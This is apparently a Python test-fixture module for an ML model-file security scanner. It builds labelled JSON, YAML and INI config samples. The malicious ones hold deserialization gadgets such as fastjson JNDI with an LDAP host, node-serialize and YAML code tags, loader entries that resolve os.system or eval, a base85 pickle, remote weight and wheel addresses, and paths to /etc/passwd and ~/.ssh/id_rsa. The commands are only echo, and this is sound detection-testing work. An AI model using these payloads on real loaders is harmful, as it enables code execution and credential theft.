"""Settings by which a loader opens, imports or calls what its publisher wants. Commands are at most an echo."""

from __future__ import annotations

import base64
import json
from typing import Any

from stannary.testing.forges.configs import URL, file

__all__: list[str] = []

_JSON: dict[str, tuple[str, Any, bool | None]] = {
    "fastjson": ("model.json", {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.9/x"}, True),
    "fastjson_nested": ("config.json", {"a": {"@type": "org.apache.ibatis.datasource.jndi.JndiDataSourceFactory"}}, True),
    "jackson_array": ("config.json", {"obj": ["org.springframework.context.support.ClassPathXmlApplicationContext", URL]}, True),
    "xstream_handler": ("config.json", {"dynamic-proxy": {"handler": {"@class": "java.beans.EventHandler"}}}, True),
    "node_function": ("config.json", {"rce": "_$$ND_FUNC$$_function(){require('child_process').exec('echo stannary')}()"}, True),
    "prototype": ("config.json", {"__proto__": {"shell": "/bin/sh", "env": {"NODE_OPTIONS": "--require /tmp/x"}}}, True),
    "linked_data": (
        "croissant.json",
        {"@context": "https://schema.org/", "@type": "sc:Dataset", "name": "x", "distribution": [{"@type": "cr:FileObject"}]},
        False,
    ),
    "pipeline_system": ("model_index.json", {"_class_name": "StableDiffusionPipeline", "unet": ["os", "system"]}, True),
    "pipeline_eval": ("model_index.json", {"_class_name": "DiffusionPipeline", "scheduler": ["builtins", "eval"]}, True),
    "pipeline_traversal": ("model_index.json", {"_class_name": "DiffusionPipeline", "vae": ["../../evil", "Model"]}, True),
    "pipeline_by_address": ("model_index.json", {"_class_name": "DiffusionPipeline", "custom_pipeline": f"{URL}.py"}, True),
    "schema_of_a_class": (
        "schema.json",
        {
            "$schema": "http://json-schema.org/draft-07/schema#", "class_name": "Model", "config": {"name": "x", "sourceUrl": "https://models.example.org/x.json"},
        },
        False,
    ),
    "settings_in_text": ("model.json", {"model_info": {"params": json.dumps({"loss": {"custom_loss": "os.system"}})}}, True),
    "settings_in_text_plain": ("model.json", {"model_info": {"params": json.dumps({"loss_function": {"type": "RMSE"}})}}, False),
    "quantizer_of_nobody": ("config.json", {"quantization_config": {"quant_method": "own", "quantizer": "nobody_knows.q.Quantizer"}}, None),
    "pipeline_of_nobody": ("model_index.json", {"_class_name": "DiffusionPipeline", "vae": ["nobody_knows", "Loader"]}, True),
    "pipeline_parts_of_diffusers": (
        "model_index.json",
        {"_class_name": "WuerstchenDecoderPipeline", "decoder": ["wuerstchen", "WuerstchenDiffNeXt"], "vqgan": ["wuerstchen", "PaellaVQModel"]},
        False,
    ),
    "consent_of_the_publisher": ("sentence_bert_config.json", {"max_seq_length": 8, "model_args": {"trust_remote_code": True}}, True),
    "consent_withheld": ("sentence_bert_config.json", {"max_seq_length": 8, "model_args": {"trust_remote_code": False}}, False),
    "modules_of_nobody": ("modules.json", [{"idx": 0, "name": "0", "path": "", "type": "nobody_knows.layers.Pooling"}], True),
    "pipeline_plain": (
        "model_index.json",
        {
            "_class_name": "StableDiffusionPipeline",
            "unet": ["diffusers", "UNet2DConditionModel"],
            "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
            "feature_extractor": [None, None],
        },
        False,
    ),
    "auto_map_absolute": ("config.json", {"model_type": "x", "auto_map": {"AutoModel": "/tmp/evil.Model"}}, True),
    "vocabulary_of_credentials": ("tokenizer_config.json", {"vocab_file": "~/.ssh/id_rsa", "tokenizer_class": "BertTokenizer"}, True),
    "vocabulary_plain": (
        "tokenizer_config.json",
        {"vocab_file": "vocab.txt", "tokenizer_file": "/home/ml/.cache/huggingface/tokenizer.json", "name_or_path": "../models/bert"},
        False,
    ),
    "weights_by_address": ("config.json", {"architecture": "resnet50", "pretrained_cfg": {"url": "http://203.0.113.9/x.pth"}}, True),
    "weights_on_share": ("config.json", {"checkpoint": "\\\\203.0.113.9\\share\\model.bin"}, True),
    "service_at_home": ("config.json", {"endpoint": "http://192.168.1.10:8000", "hub": "https://huggingface.co/a/b", "log": "/var/log/x"}, False),
    "function_by_name": ("train.json", {"compile": {"backend": "os.system"}}, True),
    "lambda_import": ("config.json", {"preprocess": "lambda x: __import__('os').system('echo stannary')"}, True),
    "custom_ops": ("genai_config.json", {"model": {"decoder": {"session_options": {"custom_ops_library": "/tmp/x.so"}}}}, True),
    "blob_traversal": (
        "manifest.json",
        {"schemaVersion": 2, "layers": [{"mediaType": "application/vnd.ollama.image.model", "digest": "sha256:../../../etc/passwd"}]},
        True,
    ),
    "blob_plain": (
        "manifest.json",
        {"schemaVersion": 2, "layers": [{"mediaType": "application/vnd.ollama.image.model", "digest": f"sha256:{'a1' * 32}"}]},
        False,
    ),
    "sentence_path": (
        "modules.json",
        [{"idx": 0, "name": "0", "path": "../../../../tmp", "type": "sentence_transformers.models.Transformer"}],
        True,
    ),
    "package_traversal": (
        "Manifest.json",
        {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"path": "../../../../etc/passwd"}}, "rootModelIdentifier": "A"},
        True,
    ),
}  # fmt: skip
for _name, (_file, _document, _bad) in _JSON.items():
    file(f"json.{_name}", _file, json.dumps(_document, indent=2), "JSON with code tags", malicious=_bad)

_FLAVOR = "artifact_path: m\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: "
_YAML: dict[str, tuple[str, str, bool | None]] = {
    "javascript_function": ("config.yaml", 'cb: !!js/function \'function(){require("child_process").execSync("echo")}\'\n', True),
    "includes_file": ("config.yaml", "a: !include ../../../etc/passwd\n", True),
    "includes_own": ("config.yaml", "a: !include optimizer.yaml\n", False),
    "dotnet_process": ("config.yaml", "a: !System.Diagnostics.Process,System\n  StartInfo: x\n", True),
    "mlmodel_traversal": ("MLmodel", f"{_FLAVOR}../../../../tmp/model.pkl\n", True),
    "mlmodel_share": ("MLmodel", f"{_FLAVOR}'\\\\203.0.113.9\\s\\m.pkl'\n", True),
    "mlmodel_address": ("MLmodel", f"{_FLAVOR}http://models.example.org/m.pkl\n", True),
    "mlmodel_absolute": ("MLmodel", "flavors:\n  sklearn:\n    pickled_model: /tmp/evil.pkl\n", True),
    "mlmodel_plain": ("MLmodel", f"{_FLAVOR}model.pkl\n    env: {{conda: conda.yaml}}\n", False),
    "output_of_startup": ("model.dvc", "outs:\n- path: ../../../.bashrc\n  md5: aaaa\n", True),
    "output_plain": ("model.dvc", "outs:\n- path: ../data/model.pkl\n  md5: aaaa\n", False),
    "mounts_machine": ("MLproject", "name: x\ndocker_env:\n  image: python\n  volumes: ['/:/host']\n", True),
    "pickle_in_base85": (
        "config.yaml",
        "name: x\nblob: " + repr(base64.b85encode(b"(S'echo stannary'\nios\nsystem\n.").decode()) + "\n",
        True,
    ),
    "consent": ("recipe.yaml", "base_model: org/name\ntrust_remote_code: true\n", None),
    "consent_of_a_server": ("vllm.yaml", "model: org/name\ntrust-remote-code: true\n", None),
    "consent_off": ("recipe.yaml", "base_model: org/name\ntrust_remote_code: false\n", False),
    "package_by_address": ("bentofile.yaml", "service: x\npython:\n  packages: ['http://203.0.113.9/x.whl']\n", True),
}
for _name, (_file, _text, _bad) in _YAML.items():
    file(f"yaml.{_name}", _file, _text, "YAML with code tags", malicious=_bad)
file(
    "config.logging_class",
    "logging.ini",
    "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[handler_h]\nclass=__import__('os').system\nargs=('echo stannary',)\n",
    "configuration",
)
